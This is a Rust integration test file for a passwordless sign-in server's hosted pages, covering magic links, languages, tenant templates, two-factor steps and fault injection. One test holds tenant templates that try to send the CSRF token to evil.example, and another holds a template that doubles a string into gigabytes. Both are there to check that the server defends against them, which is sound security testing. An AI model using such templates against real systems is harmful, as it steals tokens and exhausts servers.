    let link = link_in(&server.emails().await[0]);

    // The phone: GET and HEAD show a page and take nothing; the page asks for a confirmation.
    let mut phone = Browser::new(&server);
    assert_eq!(phone.head(&link).await.status, 200);
    let shown = phone.get(&link).await;
    assert!(
        shown.html.contains("browser where you asked"),
        "{}",
        shown.html
    );
    assert!(
        shown
            .html
            .contains("name=\"confirm\" value=\"other-browser\""),
        "{}",
        shown.html
    );
    let path = link.split('?').next().unwrap().to_owned();
    let unconfirmed = phone.post_form(&path, &[("csrf", &shown.csrf())]).await;
    assert!(unconfirmed.location().is_none(), "{}", unconfirmed.html);
    let confirmed = phone
        .post_form(
            &path,
            &[("csrf", &shown.csrf()), ("confirm", "other-browser")],
        )
        .await;
    assert_eq!(confirmed.status, 302, "{}", confirmed.html);
    assert!(confirmed.location().unwrap().starts_with(CALLBACK));

    // Once: the browser that asked now finds the link spent.
    assert_eq!(asking.get(&link).await.status, 404);
}

#[tokio::test]
async fn a_links_page_speaks_the_requested_language_then_the_users_preferred_one() {
    let server = TestServer::start().await;
    let (id, _) = client_application(&server, json!({})).await;
    server
        .user(
            &id,
            "anna@example.com",
            json!({"preferredLanguages": ["de"]}),
        )
        .await;
    let link = emailed_link(
        &server,
        &id,
        "anna@example.com",
        authorization_state(&id, json!({})),
    )
    .await;
    let mut browser = Browser::new(&server);
    let german = browser.get(&link).await;
    assert!(german.html.contains("Weiter"), "{}", german.html);
    let request = browser
        .client
        .get(format!("{}{link}", browser.base))
        .header("Accept-Language", "fr-CA,fr;q=0.9");
    let french = browser.send(request).await;
    assert!(french.html.contains("Continuer"), "{}", french.html);
    // The client learns the language too, as FusionAuth's `locale`: here the user's.
    let done = continue_from(&mut browser, &link).await;
    let location = done.location().expect("a redirect");
    assert_eq!(parameter(&location, "locale").as_deref(), Some("de"));
}

#[tokio::test]
async fn s25_a_server_error_on_a_hosted_page_is_a_page_with_the_request_id() {
    let server = TestServer::start_with_mailer(std::sync::Arc::new(PanickingMailer)).await;
    let client = relying_party(&server, json!({}), "alan@example.com").await;
    let mut browser = Browser::new(&server);
    let failed = ask_for_link(&mut browser, &client, "alan@example.com", &[]).await;
    assert_eq!(failed.status, 500);
    assert_eq!(
        failed.headers["content-type"], "text/html; charset=UTF-8",
        "a page, not a JSON body"
    );
    assert!(failed.headers.contains_key("content-security-policy"));
    assert!(
        failed.html.contains("Something went wrong"),
        "{}",
        failed.html
    );
    let start = failed.html.find("<code>").expect("the request id") + "<code>".len();
    let request_id = failed.html[start..].split('<').next().unwrap();
    assert!(request_id.len() >= 8, "{request_id}");
    // The server goes on serving.
    let again = browser.get(&authorize_path(&client, &[])).await;
    assert_eq!(again.status, 200);
}

/// N1, S32: a tenant's page template that would build gigabytes stops with an error, the
/// built-in page stands in, and every page load stays quick (the audit saw four loads stall
/// an unrelated request for seven seconds).
#[tokio::test]
async fn n1_s32_a_page_template_that_would_build_gigabytes_falls_back_to_the_built_in_page() {
    let server = TestServer::start().await;
    let tenant = format!("/api/tenant/{}", server.default_tenant());
    let doubling = concat!(
        "{% extends \"layout.html\" %}{% block content %}",
        "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        "<h1>Doubled</h1>{{ ns.s }}{% endblock %}"
    );
    // Compiled page sets are kept per tenant version: a version of its own, whatever other
    // tests in this process did to their default tenant.
    server.clock.advance_secs(7 * 24 * 3600 + 17);
    server
        .admin(
            "PATCH",
            &tenant,
            json!({"tenant": {"hostedPagesConfiguration": {"templates": {"authorize": doubling}}}}),
        )
        .await
        .assert_status(200);
    let client = relying_party(&server, json!({}), "barbara@example.com").await;
    let mut browser = Browser::new(&server);
    for _ in 0..4 {
        let started = std::time::Instant::now();
        let page = browser.get(&authorize_path(&client, &[])).await;
        assert_eq!(page.status, 200);
        assert!(!page.html.contains("Doubled"), "{}", page.html);
        assert!(page.html.contains("<form"), "{}", page.html);
        eprintln!("a page load took {:?}", started.elapsed());
    }
}

/// N12, S34: forms on the hosted pages post only to this origin, and end (after a completed
/// sign-in) only at the client's: the CSP's `form-action` says so. A tenant's page template
/// never holds the CSRF token: one that would send it to another site (a `<meta>` refresh, a
/// form posting elsewhere) is not served, and the built-in page stands in with a working form.
#[tokio::test]
async fn n12_s34_forms_post_here_and_tenant_templates_cannot_send_page_secrets_away() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "mallory.victim@example.com").await;
    let mut browser = Browser::new(&server);
    let asked = ask_for_link(&mut browser, &client, "mallory.victim@example.com", &[]).await;
    let csp = asked.headers["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        csp.contains("form-action 'self' https://app.example;"),
        "{csp}"
    );
    let link = client.link(&server, json!({})).await;
    let page = Browser::new(&server).get(&link).await;
    let csp = page.headers["content-security-policy"].to_str().unwrap();
    assert!(
        csp.contains("form-action 'self' https://app.example;"),
        "{csp}"
    );

    let tenant = format!("/api/tenant/{}", server.default_tenant());
    let leaks = [
        "{% extends \"layout.html\" %}{% block content %}<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?t={{ csrf }}\"><form method=\"post\" action=\"/oauth2/passwordless\"><input type=\"hidden\" name=\"csrf\" value=\"{{ csrf }}\">{% for field in hidden %}<input type=\"hidden\" name=\"{{ field[0] }}\" value=\"{{ field[1] }}\">{% endfor %}<input type=\"email\" name=\"email\"><button>Go</button></form>{% endblock %}",
        "{% extends \"layout.html\" %}{% block content %}<form method=\"post\" action=\"https://evil.example/collect\"><input type=\"hidden\" name=\"csrf\" value=\"{{ csrf }}\"><button>Go</button></form>{% endblock %}",
        "{% extends \"layout.html\" %}{% block content %}<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?t={{ csrf | reverse }}\">{% endblock %}",
    ];
    for (i, leak) in leaks.iter().enumerate() {
        server
            .admin(
                "PATCH",
                &tenant,
                json!({"tenant": {"hostedPagesConfiguration": {"templates": {"authorize": leak}}}}),
            )
            .await
            .assert_status(200);
        server.clock.advance_secs(1);
        let page = browser.get(&authorize_path(&client, &[])).await;
        assert_eq!(page.status, 200);
        if i < 2 {
            // Refused: the built-in page, its form intact.
            assert!(!page.html.contains("evil.example"), "{}", page.html);
            assert!(page.html.contains("type=\"email\""), "{}", page.html);
            assert!(!page.csrf().is_empty());
        } else {
            // Served, but what it reversed was a marker of three characters, never the token.
            let sent = page
                .html
                .split("?t=")
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap();
            assert_eq!(sent.chars().count(), 3, "{sent:?}");
        }
    }
}

#[tokio::test]
async fn a_tenant_brings_its_own_page_templates_checked_when_saved() {
    let server = TestServer::start().await;
    let tenant = format!("/api/tenant/{}", server.default_tenant());
    // A template that does not compile is refused with its line, and nothing changes.
    server
        .admin(
            "PATCH",
            &tenant,
            json!({"tenant": {"hostedPagesConfiguration": {"templates": {"authorize": "{% extends \"layout.html\" %}\n{% block content %}{% if %}{% endblock %}"}}}}),
        )
        .await
        .assert_error_code("[invalid]tenant.hostedPagesConfiguration.templates.authorize");
    // An unknown page is refused: nothing is silently ignored.
    server
        .admin(
            "PATCH",
            &tenant,
            json!({"tenant": {"hostedPagesConfiguration": {"templates": {"welcome": "hi"}}}}),
        )
        .await
        .assert_status(400);
    let client = relying_party(&server, json!({}), "barbara@example.com").await;
    let mut browser = Browser::new(&server);
    let builtin = browser.get(&authorize_path(&client, &[])).await;
    assert!(!builtin.html.contains("Acme"), "{}", builtin.html);

    let authorize = concat!(
        "{% extends \"layout.html\" %}{% block content %}",
        "<h1>Acme sign-in</h1>",
        "<form method=\"post\" action=\"/oauth2/passwordless\">",
        "<input type=\"hidden\" name=\"csrf\" value=\"{{ csrf }}\">",
        "{% for field in hidden %}<input type=\"hidden\" name=\"{{ field[0] }}\" value=\"{{ field[1] }}\">{% endfor %}",
        "<input type=\"email\" name=\"email\" value=\"{{ login_hint }}\">",
        "<button type=\"submit\">{{ t.email_me_a_link }}</button></form>{% endblock %}"
    );
    let check_email =
        "{% extends \"layout.html\" %}{% block content %}<h1>Acme: check your inbox</h1>{% endblock %}";
    server
        .admin(
            "PATCH",
            &tenant,
            json!({"tenant": {"hostedPagesConfiguration": {"templates": {
                "authorize": authorize,
                "checkEmail": check_email,
            }}}}),
        )
        .await
        .assert_status(200);
    let themed = browser.get(&authorize_path(&client, &[])).await;
    assert_eq!(themed.status, 200);
    assert!(
        themed.html.contains("<h1>Acme sign-in</h1>"),
        "{}",
        themed.html
    );
    // Escaped like the built-in pages, with the same security headers (S15).
    assert!(themed.headers.contains_key("content-security-policy"));
    // The form still works, and the next page wears the tenant's look too.
    let asked = ask_for_link(&mut browser, &client, "barbara@example.com", &[]).await;
    assert_eq!(asked.status, 200, "{}", asked.html);
    assert!(
        asked.html.contains("Acme: check your inbox"),
        "{}",
        asked.html
    );
    assert_eq!(server.emails().await.len(), 1);

    // Another tenant's application keeps the built-in pages.
    let other_tenant = server.tenant("Initech").await;
    let response = server
        .admin(
            "POST",
            "/api/application",
            json!({"application": {
                "name": "Initech",
                "tenantId": other_tenant,
                "passwordlessConfiguration": {"enabled": true},
                "oauthConfiguration": {"authorizedRedirectURLs": [CALLBACK]}
            }}),
        )
        .await;
    response.assert_status(200);
    let other = response.json()["application"]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let other_client = RelyingParty {
        id: other,
        secret: String::new(),
        email: "nobody@example.com",
        user: String::new(),
    };
    let plain = browser.get(&authorize_path(&other_client, &[])).await;
    assert_eq!(plain.status, 200, "{}", plain.html);
    assert!(!plain.html.contains("Acme"), "{}", plain.html);
}

/// The value of the page's hidden field `name`.
fn hidden(page: &Page, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let start = page
        .html
        .find(&marker)
        .unwrap_or_else(|| panic!("a {name} field in {}", page.html))
        + marker.len();
    page.html[start..].split('"').next().unwrap().to_owned()
}

#[tokio::test]
async fn the_hosted_second_step_asks_for_the_code_and_a_trusted_browser_skips_it() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "monica@example.com").await;
    let secret = passwordless::domain::two_factor::AuthenticatorSecret::from_base64(
        "MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=",
    )
    .unwrap();
    server
        .admin(
            "POST",
            &format!("/api/user/two-factor/{}", client.user),
            json!({"method": "authenticator", "secret": "MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=",
                   "code": secret.code_at(server.clock_now())}),
        )
        .await
        .assert_status(200);
    let mut browser = Browser::new(&server);
    ask_for_link(&mut browser, &client, client.email, &[]).await;
    let link = link_in(&server.emails().await.pop().unwrap());
    let step = continue_from(&mut browser, &link).await;
    assert_eq!(
        step.status, 200,
        "the second step, not a redirect: {}",
        step.html
    );
    assert!(step.html.contains("One more step"), "{}", step.html);
    let two_factor_id = hidden(&step, "twoFactorId");
    let wrong = browser
        .post_form(
            "/oauth2/two-factor",
            &[
                ("csrf", &step.csrf()),
                ("twoFactorId", &two_factor_id),
                ("code", "000000"),
            ],
        )
        .await;
    assert_eq!(wrong.status, 400);
    assert!(wrong.html.contains("That code is not right"));
    let code = secret.code_at(server.clock_now().plus_secs(30));
    let done = browser
        .post_form(
            "/oauth2/two-factor",
            &[
                ("csrf", &wrong.csrf()),
                ("twoFactorId", &two_factor_id),
                ("code", &code),
                ("trustComputer", "true"),
            ],
        )
        .await;
    assert_eq!(done.status, 302, "{}", done.html);
    let location = done.location().unwrap();
    assert!(location.starts_with(CALLBACK) && parameter(&location, "code").is_some());
    let trust = done
        .headers
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .find(|c| c.starts_with("__Host-fusionauth.trust="))
        .expect("the trust cookie");
    assert!(trust.contains("HttpOnly") && trust.contains("Secure") && trust.contains("Path=/"));

    // The trusted browser's next sign-in ends at the client without the step.
    ask_for_link(&mut browser, &client, client.email, &[]).await;
    let link = link_in(&server.emails().await.pop().unwrap());
    let again = continue_from(&mut browser, &link).await;
    assert_eq!(again.status, 302, "{}", again.html);
    // Another browser is asked.
    let mut other = Browser::new(&server);
    ask_for_link(&mut other, &client, client.email, &[]).await;
    let link = link_in(&server.emails().await.pop().unwrap());
    let asked = continue_from(&mut other, &link).await;
    assert!(asked.html.contains("One more step"));
}

#[tokio::test]
async fn under_a_required_policy_the_hosted_pages_enrol_an_authenticator_and_show_the_recovery_codes_once(
) {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "jian.yang@example.com").await;
    server
        .patch_default_tenant(
            json!({"tenant": {"multiFactorConfiguration": {"loginPolicy": "Required"}}}),
        )
        .await;
    let mut browser = Browser::new(&server);
    ask_for_link(&mut browser, &client, client.email, &[]).await;
    let link = link_in(&server.emails().await.pop().unwrap());
    let enrol = continue_from(&mut browser, &link).await;
    assert_eq!(enrol.status, 200, "{}", enrol.html);
    let key = hidden(&enrol, "enrolSecret");
    assert!(
        enrol.html.contains("href=\"otpauth:")
            && enrol.html.contains(&format!("secret={key}&amp;")),
        "the key and the link an authenticator app reads: {}",
        enrol.html
    );
    let secret = passwordless::domain::two_factor::AuthenticatorSecret::from_base32(&key).unwrap();
    let two_factor_id = hidden(&enrol, "twoFactorId");
    let wrong = browser
        .post_form(
            "/oauth2/two-factor",
            &[
                ("csrf", &enrol.csrf()),
                ("twoFactorId", &two_factor_id),
                ("enrolSecret", &key),
                ("code", "000000"),
            ],
        )
        .await;
    assert_eq!(wrong.status, 400, "{}", wrong.html);
    assert_eq!(
        hidden(&wrong, "enrolSecret"),
        key,
        "the same key, asked again"
    );
    let codes = browser
        .post_form(
            "/oauth2/two-factor",
            &[
                ("csrf", &wrong.csrf()),
                ("twoFactorId", &two_factor_id),
                ("enrolSecret", &key),
                ("code", &secret.code_at(server.clock_now())),
            ],
        )
        .await;
    assert_eq!(codes.status, 200, "{}", codes.html);
    assert!(codes.html.contains("Save your recovery codes"));
    assert_eq!(codes.html.matches("<li><code>").count(), 10);
    let done = browser
        .post_form(
            "/oauth2/two-factor",
            &[
                ("csrf", &codes.csrf()),
                ("twoFactorId", &two_factor_id),
                ("code", &hidden(&codes, "code")),
            ],
        )
        .await;
    assert_eq!(done.status, 302, "{}", done.html);
    let user = server
        .get(&format!("/api/user/{}", client.user), Some(ADMIN_KEY))
        .await
        .json();
    assert_eq!(
        user["user"]["twoFactor"]["methods"][0]["method"],
        "authenticator"
    );
}

// S23: fault injection --------------------------------------------------------------------------

use crate::support::faulty::FaultTime;

/// How one try of a flow ended: signed in, or a step answered a server error (5xx).
#[derive(Debug, PartialEq)]
enum Attempt {
    SignedIn,
    Failed(&'static str),
}

/// A step's answer: on with it, or a server error that ends the try. Anything else is a bug.
fn step(name: &'static str, status: u16, expected: u16, body: &str) -> Result<(), Attempt> {
    match status {
        s if s == expected => Ok(()),
        s if s >= 500 => Ok(()).and(Err(Attempt::Failed(name))),
        s => panic!("{name}: {s}, not {expected} or a server error: {body}"),
    }
}

/// The API's flow: start with a key, send the mail, log in with the code. A failed login is
/// checked for half state: the same code may work at most once afterwards.
async fn api_login(server: &TestServer, application: &str, email: &str) -> Attempt {
    let flow = async {
        let started = server.start_login(application, email, json!({})).await;
        step("start", started.status.as_u16(), 200, &started.text)?;
        let code = started.json()["code"].as_str().unwrap().to_owned();
        let sent = server.send(json!({"code": code})).await;
        step("send", sent.status.as_u16(), 200, &sent.text)?;
        let login = server.login(json!({"code": code})).await;
        if login.status.as_u16() >= 500 {
            // Whatever the failure left, the code signs in at most once more.
            let again = server.login(json!({"code": code})).await;
            if again.status.as_u16() == 200 {
                server.login(json!({"code": code})).await.assert_status(404);
            }
            return Err(Attempt::Failed("login"));
        }
        step("login", login.status.as_u16(), 200, &login.text)?;
        assert!(login.json()["token"].is_string(), "{}", login.text);
        Ok(Attempt::SignedIn)
    };
    flow.await.unwrap_or_else(|failed| failed)
}

/// The hosted flow: the authorize page, the email form, the short code from the mail, the
/// token exchange. A failed short-code step or exchange is checked for half state too.
async fn hosted_login(server: &TestServer, client: &RelyingParty, email: &str) -> Attempt {
    let mut browser = Browser::new(server);
    let flow = async {
        let authorize = browser.get(&authorize_path(client, &[])).await;
        step("authorize", authorize.status, 200, &authorize.html)?;
        let form = request_form(&authorize, email);
        let pairs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let mails = server.emails().await.len();
        let asked = browser.post_form("/oauth2/passwordless", &pairs).await;
        step("ask", asked.status, 200, &asked.html)?;
        let mut sent = server.emails().await;
        if sent.len() == mails {
            // The page answers as for any address (S9); the mail is what failed.
            return Err(Attempt::Failed("mail"));
        }
        let mail = sent.pop().unwrap();
        assert_eq!(mail.to.email, email);
        let short = one_time_code_in(&mail);
        let done = browser.type_short_code(&asked.csrf(), &short).await;
        if done.status >= 500 {
            let again = browser.type_short_code(&asked.csrf(), &short).await;
            if again.status == 302 {
                assert_eq!(
                    browser.type_short_code(&asked.csrf(), &short).await.status,
                    400
                );
            }
            return Err(Attempt::Failed("short code"));
        }
        step("short code", done.status, 302, &done.html)?;
        let code = parameter(&done.location().unwrap(), "code").unwrap();
        let form = [
            ("grant_type", "authorization_code"),
            ("code", code.as_str()),
            ("redirect_uri", CALLBACK),
        ];
        let (status, tokens) =
            token_request(server, &form, Some((&client.id, &client.secret))).await;
        if status >= 500 {
            let (again, _) = token_request(server, &form, Some((&client.id, &client.secret))).await;
            if again == 200 {
                let (third, _) =
                    token_request(server, &form, Some((&client.id, &client.secret))).await;
                assert_eq!(third, 400, "an authorization code is redeemed once");
            }
            return Err(Attempt::Failed("token"));
        }
        step("token", status, 200, &tokens.to_string())?;
        assert!(tokens["access_token"].is_string(), "{tokens}");
        Ok(Attempt::SignedIn)
    };
    flow.await.unwrap_or_else(|failed| failed)
}

/// The call positions to fail: every one on SQLite; on DynamoDB and SES every third (moto takes
/// tens of milliseconds a call, and the full sweep minutes). What fails is the port as the flows
/// see it, the same on both; the full sweep runs on SQLite.
fn positions(server: &TestServer, calls: usize) -> impl Iterator<Item = usize> {
    (0..calls).step_by(if server.on_aws() { 3 } else { 1 })
}

/// S23: every store or mailer call of an API login fails in turn, before it reaches the real
/// port and after it did its work: the failed try answers a server error and signs nobody in
/// twice, and the next try signs in.
#[tokio::test]
async fn s23_a_failure_at_any_step_of_an_api_login_leaves_no_half_state_and_a_retry_signs_in() {
    let (server, faults) = TestServer::start_with_faults().await;
    let app = server
        .application(json!({"loginConfiguration": {"generateRefreshTokens": true}}))
        .await;
    server.user(&app, "warm@example.com", json!({})).await;
    assert_eq!(
        api_login(&server, &app, "warm@example.com").await,
        Attempt::SignedIn
    );
    server.user(&app, "counted@example.com", json!({})).await;
    let before = faults.calls();
    assert_eq!(
        api_login(&server, &app, "counted@example.com").await,
        Attempt::SignedIn
    );
    let calls = faults.calls() - before;
    assert!(calls >= 5, "{calls}");
    for time in [FaultTime::Before, FaultTime::After] {
        for nth in positions(&server, calls) {
            let email = format!("api-{nth}-{time:?}@example.com").to_lowercase();
            server.user(&app, &email, json!({})).await;
            server.clock.advance_secs(61);
            faults.arm(nth, time);
            let first = api_login(&server, &app, &email).await;
            faults.disarm();
            assert!(
                faults.fired(),
                "call {nth} ({time:?}) was not reached: {first:?}"
            );
            assert_ne!(
                first,
                Attempt::SignedIn,
                "call {nth} ({time:?}) failed unnoticed"
            );
            server.clock.advance_secs(61);
            assert_eq!(
                api_login(&server, &app, &email).await,
                Attempt::SignedIn,
                "the retry after call {nth} ({time:?}) failed"
            );
        }
    }
}

/// S23: the same for the hosted pages' flow up to the token exchange.
#[tokio::test]
async fn s23_a_failure_at_any_step_of_the_hosted_flow_leaves_no_half_state_and_a_retry_signs_in() {
    let (server, faults) = TestServer::start_with_faults().await;
    let client = relying_party(&server, json!({}), "counted@example.com").await;
    // The first try fills the caches; the second is counted.
    assert_eq!(
        hosted_login(&server, &client, client.email).await,
        Attempt::SignedIn
    );
    server.clock.advance_secs(61);
    let before = faults.calls();
    assert_eq!(
        hosted_login(&server, &client, client.email).await,
        Attempt::SignedIn
    );
    let calls = faults.calls() - before;
    assert!(calls >= 5, "{calls}");
    for time in [FaultTime::Before, FaultTime::After] {
        for nth in positions(&server, calls) {
            server.clock.advance_secs(61);
            faults.arm(nth, time);
            let first = hosted_login(&server, &client, client.email).await;
            faults.disarm();
            assert!(
                faults.fired(),
                "call {nth} ({time:?}) was not reached: {first:?}"
            );
            server.clock.advance_secs(61);
            assert_eq!(
                hosted_login(&server, &client, client.email).await,
                Attempt::SignedIn,
                "the retry after call {nth} ({time:?}) failed"
            );
        }
    }
}
